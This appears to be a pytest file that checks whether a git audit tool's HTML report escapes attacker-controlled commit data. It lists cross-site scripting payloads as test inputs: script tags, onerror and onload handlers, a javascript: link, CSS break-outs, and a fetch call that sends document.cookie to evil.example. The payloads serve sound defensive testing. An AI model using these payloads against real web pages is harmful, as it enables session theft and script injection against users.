"""The html audit report cannot be turned against the auditor who opens it.

Everything the report shows from git is written by whoever made a commit: the secret's
name (a path), the reason (the message body), the author and approvers (trailers), trigger
names, signature details, ``--verify`` messages. Each carries markup here: a script, an
event handler, an attribute break-out, an SVG break-out, a CSS break-out, a comment. The
report must show each as text and add no element, no attribute and no script; and the
page's Content-Security-Policy forbids scripts and fetches even if something slipped by.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from gitrot.audit.html import CSS, render_html
from gitrot.audit.model import Approval, Delivery, Problem, Signature
from tests.audit import html_sample as sample

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title></svg></table><script>fetch('https://evil.example/'+document.cookie)</script>",
    "</style><style>body{background:url(https://evil.example/x)}</style>",
    "<!-- --><a href='javascript:alert(1)'>x</a>",
)


class Elements(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.data: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.data.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment reached the page: {data!r}")


def hostile_report(payload: str) -> str:
    ledger = sample.rows()
    secret = f"evil/{payload}"
    target = ledger[2]  # payments/db-password v3, the emergency
    for row in ledger[:4]:
        row.secret = secret
    target.reason = payload
    target.author = f"Mallory {payload} <m@example.com>"
    target.approvals = [Approval(payload, "Approved-by", target.commit)]
    target.deliveries = [Delivery(payload, False, 0, payload)]
    target.backend, target.backend_id = payload, payload
    target.signatures = {target.commit: Signature("bad", "ssh", payload, payload, payload)}
    problems = [Problem(payload, payload, secret, 3, payload)]
    meta = {**sample.META, "repository": payload, "main": payload, "version": payload}
    return render_html(ledger, sample.compliance(ledger), problems, meta)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_from_git_stays_text(payload: str) -> None:
    text = hostile_report(payload)
    page = Elements(text)
    tags = {tag for tag, _ in page.tags}
    assert tags.isdisjoint({"script", "img", "a", "iframe", "link"}), tags
    assert sum(1 for tag, _ in page.tags if tag == "style") == 1
    assert sum(1 for tag, _ in page.tags if tag == "svg") == 3
    for _, attrs in page.tags:
        names = {name.lower() for name, _ in attrs}
        assert not any(name.startswith("on") for name in names), attrs
        assert names.isdisjoint({"src", "href"}), attrs
    # the payload is shown as written: in the text of the page, never as markup
    shown = "".join(page.data)
    assert payload in shown
    # the one style element is gitrot's own CSS, nothing appended
    assert text.count("<style>") == 1
    assert text.split("<style>")[1].split("</style>")[0] == CSS
    assert "<script" not in text and "<img" not in text and "<svg onload" not in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_hostile_page_has_the_same_elements_as_a_harmless_one(payload: str) -> None:
    """The same report with plain words in every place: the same elements and attributes
    in the same order (the payload added, removed or opened nothing)."""
    hostile = [
        (tag, [name for name, _ in attrs]) for tag, attrs in Elements(hostile_report(payload)).tags
    ]
    harmless = [
        (tag, [name for name, _ in attrs])
        for tag, attrs in Elements(hostile_report("plain words")).tags
    ]
    assert hostile == harmless
